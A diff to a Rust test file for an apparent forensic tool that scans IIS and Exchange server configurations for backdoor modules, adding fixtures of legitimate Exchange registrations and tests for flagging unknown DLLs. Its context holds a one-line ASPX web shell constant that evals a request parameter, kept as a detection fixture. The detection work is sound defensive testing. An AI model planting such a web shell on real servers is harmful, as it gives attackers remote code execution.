@@ -4,7 +4,7 @@
 
 use serde_json::{Value, json};
 
-use crate::scratch::{CASE, Scratch, text};
+use crate::scratch::{CASE, Scratch, text, text as text_of};
 
 const SHELL: &str = "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"k\"],\"unsafe\");%>";
 
@@ -51,6 +51,103 @@ fn a_module_in_a_configuration_in_utf_16_is_a_door_that_leads_to_its_bytes() {
     let shown = scratch.piste(&["show", "F-1", "--case", CASE]).expect(0).out;
     assert!(shown.contains("the same as when the row was made"), "{shown}");
     assert!(shown.contains("3c 00 61 00 64 00 64 00"), "{shown}");
+}
+
+/// The configuration of a server with Exchange in this folder, as its setup leaves it: what it registers of its own and of Windows'.
+fn exchange_server(root: &str) -> String {
+    let filters = [("bin\\owaauth.dll", "OWA"), ("bin\\AirFilter.dll", "ActiveSync")];
+    let filters: String = filters
+        .iter()
+        .map(|(file, name)| {
+            format!("<filter name=\"Exchange {name}\" path=\"{root}\\FrontEnd\\HttpProxy\\{file}\" />\n")
+        })
+        .collect();
+    format!(
+        r#"<?xml version="1.0"?>
+<configuration>
+ <system.applicationHost><sites>
+  <site name="Default Web Site" id="1">
+   <application path="/"><virtualDirectory path="/" physicalPath="%SystemDrive%\inetpub\wwwroot" /></application>
+   <application path="/owa"><virtualDirectory path="/" physicalPath="{root}\FrontEnd\HttpProxy\owa" /></application>
+  </site>
+ </sites></system.applicationHost>
+ <system.webServer>
+  <globalModules>
+   <add name="RequestMonitorModule" image="%windir%\System32\inetsrv\iisreqs.dll" />
+   <add name="PasswordExpiryModule" image="%SystemRoot%\system32\rpcproxy\rpcproxy.dll" preCondition="bitness64" />
+   <add name="RewriteModule" image="%SystemRoot%\system32\inetsrv\rewrite.dll" />
+   <add name="kerbauth" image="{root}\Bin\kerbauth.dll" />
+   <add name="WSMan" image="C:\Windows\system32\wsmsvc.dll" />
+   <add name="exppw" image="{root}\ClientAccess\Owa\auth\exppw.dll" />
+   <add name="cafe_exppw" image="{root}\FrontEnd\HttpProxy\bin\exppw.dll" />
+  </globalModules>
+ </system.webServer>
+ <location path="Default Web Site"><system.webServer><isapiFilters><clear />
+{filters} </isapiFilters></system.webServer></location>
+</configuration>
+"#
+    )
+}
+
+/// What Exchange's own applications register: types without the name of their assembly, and a library of Windows.
+const BACK_END: &str = r#"<?xml version="1.0"?>
+<configuration><system.webServer>
+ <modules>
+  <add type="Microsoft.Exchange.Security.OAuth.OAuthHttpModule" name="OAuthAuthModule" />
+  <add name="RbacModule" type="Microsoft.Exchange.Management.ControlPanel.RbacModule" preCondition="managedHandler" />
+  <add name="OABRequestHandler" type="Microsoft.Exchange.OABRequestHandler.HttpModule,Microsoft.Exchange.OABRequestHandler" />
+  <add name="WSMan" />
+ </modules>
+ <handlers><clear />
+  <add name="RPCPROXY" path="*" verb="*" modules="IsapiModule" scriptProcessor="%SystemRoot%\system32\rpcproxy\rpcproxyshim.dll" />
+ </handlers>
+</system.webServer></configuration>
+"#;
+
+#[test]
+fn what_exchange_itself_registers_is_no_door_wherever_it_is_installed() {
+    for (root, collected) in [
+        (r"C:\Program Files\Microsoft\Exchange Server\V15", "C/Program Files/Microsoft/Exchange Server/V15"),
+        (r"E:\Exchange", "E/Exchange"),
+    ] {
+        let scratch = Scratch::new();
+        scratch.write("MX01/C/Windows/System32/inetsrv/config/applicationHost.config", exchange_server(root));
+        scratch.write(&format!("MX01/{collected}/ClientAccess/ecp/web.config"), BACK_END);
+        scratch.investigate("MX01").expect(0);
+        assert_eq!(door_places(&scratch), Vec::<String>::new(), "{root}");
+        assert_eq!(titles(&scratch), [], "{root}");
+    }
+}
+
+#[test]
+fn an_unknown_module_is_unknown_until_a_second_sign_speaks_against_it() {
+    let scratch = Scratch::new();
+    let root = r"C:\Program Files\Microsoft\Exchange Server\V15";
+    let more = [
+        (r"%windir%\System32\inetsrv\agent7.dll", "probed unknown"),
+        (r"C:\ProgramData\Intel\agent8.dll", "succeeded open"),
+        (r"C:\Program Files\Microsoft\Exchange Server\V15\bin\owaauth.dll", "succeeded open"),
+        (r"%windir%\System32\inetsrv\kerbauth.dll", "succeeded open"),
+        (r"\\fs01\share\agent9.dll", "succeeded open"),
+    ];
+    let entries: String =
+        more.iter().map(|(image, _)| format!("<add name=\"x\" image=\"{image}\" />\n")).collect();
+    let text = exchange_server(root).replace("</globalModules>", &format!("{entries}</globalModules>"));
+    scratch.write("MX01/C/Windows/System32/inetsrv/config/applicationHost.config", text);
+    scratch.investigate("MX01").expect(0);
+    let shown = each_door(&scratch, |door| {
+        format!("{}: {} {}", text_of(door, "place"), text_of(door, "verdict"), text_of(door, "state"))
+    });
+    let mut expected: Vec<String> = more.iter().map(|(image, judged)| format!("{image}: {judged}")).collect();
+    expected.sort();
+    assert_eq!(shown, expected);
+    let all = scratch.object("doors.json").to_string();
+    assert!(!all.contains("ships"), "no list is whole: {all}");
+    let unknown = scratch.object("doors.json");
+    let unknown =
+        unknown["doors"].as_array().expect("a list").iter().find(|door| door["verdict"] == "probed");
+    let close = text_of(unknown.expect("it is told"), "close");
+    assert!(close.starts_with("find out whose it is before anything is removed"), "{close}");
 }
 
 #[test]
